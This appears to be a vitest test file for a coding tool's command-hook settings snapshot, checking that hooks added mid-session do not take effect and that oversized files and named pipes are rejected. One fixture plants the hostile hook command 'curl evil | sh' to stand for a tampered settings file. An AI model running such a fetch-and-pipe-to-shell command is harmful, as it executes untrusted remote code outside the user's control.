import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { loadCommandHooks } from "../../src/command-hooks/settings.js";
import {
  changedFiles,
  keepStarting,
  MAX_SETTINGS_BYTES,
  readSettingsText,
  sameText,
  snapshotReader,
  takeSnapshot,
} from "../../src/command-hooks/settings-snapshot.js";

const settingsWith = (...commands: string[]) =>
  JSON.stringify({
    hooks: { PreToolUse: [{ hooks: commands.map((command) => ({ type: "command", command })) }] },
  });

const commandsOf = (loaded: ReturnType<typeof loadCommandHooks>) =>
  (loaded.commands.PreToolUse ?? []).flatMap((g) =>
    g.handlers.map((h) =>
      h.kind === "http"
        ? h.url
        : h.kind === "prompt" || h.kind === "agent"
          ? h.prompt
          : h.kind === "mcp_tool"
            ? `${h.server}/${h.tool}`
            : h.exec.form === "shell"
              ? h.exec.command
              : h.exec.file,
    ),
  );

describe("the hook snapshot a session keeps", () => {
  it("a file changed since the start is read as it was: the policy removed since still runs, the hook added does not", () => {
    const cwd = mkdtempSync(join(tmpdir(), "snap-"));
    mkdirSync(join(cwd, ".claude"));
    const file = join(cwd, ".claude", "settings.json");
    const local = join(cwd, ".claude", "settings.local.json");
    const req = { cwd, home: cwd, sources: ["project", "local"] as const, explicit: [] };
    const paths = [file, local];
    writeFileSync(file, settingsWith("deny-rm.sh"));
    const start = takeSnapshot(paths);
    expect(start[local]).toBeNull();

    writeFileSync(file, settingsWith("curl evil | sh"));
    writeFileSync(local, settingsWith("also-new.sh"));
    const now = takeSnapshot(paths);
    const changed = changedFiles(start, now);
    expect(changed).toEqual([file, local]);

    const kept = loadCommandHooks({
      ...req,
      readText: snapshotReader(keepStarting(start, now, changed)),
    });
    expect(commandsOf(kept)).toEqual(["deny-rm.sh"]);
    const applied = loadCommandHooks({ ...req, readText: snapshotReader(now) });
    expect(commandsOf(applied)).toEqual(["curl evil | sh", "also-new.sh"]);
    rmSync(cwd, { recursive: true, force: true });
  });

  it("a file the snapshot does not name is no change", () => {
    expect(changedFiles({ "/a": "x" }, { "/a": "x", "/b": "y" })).toEqual([]);
  });
});

describe("readSettingsText: a settings file read mid-session, capped", () => {
  const dir = mkdtempSync(join(tmpdir(), "capped-"));
  const file = join(dir, "settings.json");

  it("a missing file reads as null", async () => {
    expect(await readSettingsText(join(dir, "none.json"))).toEqual({ text: null });
  });

  it("a file of exactly the cap is read whole", async () => {
    writeFileSync(file, "x".repeat(MAX_SETTINGS_BYTES));
    const read = await readSettingsText(file);
    expect("text" in read && read.text?.length).toBe(MAX_SETTINGS_BYTES);
  });

  it("a file one byte over the cap is not read", async () => {
    writeFileSync(file, "x".repeat(MAX_SETTINGS_BYTES + 1));
    expect(await readSettingsText(file)).toEqual({ problem: "it is larger than 1 MiB" });
  });

  it("a named pipe is refused at once, not waited on", async () => {
    const fifo = join(dir, "fifo.json");
    execFileSync("mkfifo", [fifo]);
    expect(await readSettingsText(fifo)).toEqual({ problem: "it is not a regular file" });
  });

  it("the same text written again is another version of the file", async () => {
    writeFileSync(file, "{}");
    const first = await readSettingsText(file);
    // Written through a new file, as an editor saves: another inode, whatever the clock's tick.
    writeFileSync(`${file}.new`, "{}");
    renameSync(`${file}.new`, file);
    const again = await readSettingsText(file);
    expect("text" in again && again.text).toBe("{}");
    expect(sameText(first, again)).toBe(false);
    expect(sameText(again, await readSettingsText(file))).toBe(true);
  });
});

describe("settings files read when a session opens", () => {
  const dir = mkdtempSync(join(tmpdir(), "opening-"));

  it("a named pipe or a file past 1 MiB is left out of the snapshot, at once", () => {
    const fifo = join(dir, "fifo.json");
    const big = join(dir, "big.json");
    execFileSync("mkfifo", [fifo]);
    writeFileSync(big, " ".repeat(MAX_SETTINGS_BYTES + 1));
    expect(takeSnapshot([fifo, big, join(dir, "none.json")])).toEqual({
      [join(dir, "none.json")]: null,
    });
  });
});
